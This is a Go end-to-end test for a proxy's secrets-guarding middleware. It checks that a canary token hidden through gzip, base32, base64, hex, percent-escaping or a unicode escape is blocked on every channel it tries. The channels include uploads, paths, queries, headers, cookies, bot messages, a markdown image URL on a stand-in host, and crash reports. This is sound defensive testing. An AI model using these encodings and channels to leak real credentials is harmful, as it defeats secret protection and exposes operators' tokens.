package e2e

import (
	"bytes"
	"compress/gzip"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/creel-run/creel/audit"
)

// TestEscapeContent: a secret of the operator's does not leave inside of what the
// rules allow, by any way in (THREATS EXF-01, 03 to 07, 10): each attempt is denied by
// the middleware, its event says so without the secret, and nothing arrives.
func TestEscapeContent(t *testing.T) {
	bothUsers(t, func(t *testing.T) {
		secret := canary("token")
		var packed bytes.Buffer
		z := gzip.NewWriter(&packed)
		fmt.Fprint(z, secret)
		_ = z.Close()
		in32 := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(secret)))
		in64 := base64.RawURLEncoding.EncodeToString([]byte(secret))
		inHex := hex.EncodeToString([]byte(secret))
		body := func(text string) []string { return []string{"Content-Length: " + fmt.Sprint(len(text)), "", text} }
		s := newSink(t)
		l := box{
			policy: twoHosts(restFull, "ok.test", "other.test") + "network_middlewares:\n  guard: {middleware: creel/secrets, endpoints: {include: [\"**\"]}}\n",
			flags:  join(s.upstreams("ok.test", "other.test"), []string{"--trust-ca", caFile(t), "--secret", "TOKEN=env:E2E_TOKEN@other.test:X-Token"}),
			env:    []string{"E2E_TOKEN=" + secret},
		}.start(t)
		for _, way := range []struct {
			way string
			tls bool
		}{{transparent, true}, {transparent, false}, {connect, true}, {connect, false}, {absolute, false}} {
			for _, tt := range []struct {
				id, method, target string
				lines              []string
			}{
				{"EXF-01 in the attacker's upload", "POST", "/v1/files", body("--b\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nenv: " + secret + "\r\n--b--")},
				{"EXF-03 an object", "PUT", "/bucket/object", body(packed.String())},
				{"EXF-04 the name of a package", "GET", "/" + in32, nil},
				{"EXF-04 a publication", "PUT", "/pkg", body(`{"_attachments":{"a.tgz":{"data":"` + base64.StdEncoding.EncodeToString(packed.Bytes()) + `"}}}`)},
				{"EXF-05 a path", "GET", "/public/" + secret, nil},
				{"EXF-05 a query", "GET", "/public?q=" + in64, nil},
				{"EXF-05 a query in percents", "GET", "/public?q=" + strings.ReplaceAll(url.QueryEscape(secret), "c", "%63"), nil},
				{"EXF-05 a header", "GET", "/public", []string{"X-Note: " + inHex}},
				{"EXF-05 the name of a header", "GET", "/public", []string{inHex + ": 1"}},
				{"EXF-05 a cookie", "GET", "/public", []string{"Cookie: s=" + in64}},
				{"EXF-06 a message to a bot", "POST", "/bot/send", body(`{"chat":1,"text":"` + secret[:9] + `\u` + fmt.Sprintf("%04x", secret[9]) + secret[10:] + `"}`)},
				{"EXF-07 an image in a comment", "POST", "/issues/1/comments", body(`{"body":"![a](https://img.example.test/p.png?d=` + in64 + `)"}`)},
				{"EXF-10 a crash report", "POST", "/report", body("stack: " + strings.ToUpper(inHex))},
			} {
				mark := len(l.events())
				before := len(s.requests())
				got := l.request(way.way, "ok.test", way.tls, tt.method, tt.target, tt.lines...)
				if !strings.Contains(got, `"error": "middleware_denied"`) || strings.Contains(got, secret) && !strings.Contains(tt.target, secret) {
					t.Errorf("%+v %s: %s", way, tt.id, got)
					continue
				}
				l.event(mark, tt.id, func(e audit.Event) bool {
					return e.Kind == audit.Request && e.Verdict == "deny" && e.Detail["layer"] == "middleware" && e.Detail["middleware"] == "guard"
				})
				if n := len(s.requests()); n != before {
					t.Errorf("%+v %s: it arrived", way, tt.id)
				}
			}
		}
		for _, e := range l.events() {
			if text := fmt.Sprintf("%+v", e); strings.Contains(text, secret) {
				t.Errorf("the log has the secret: %s", text)
			}
		}
	})
}
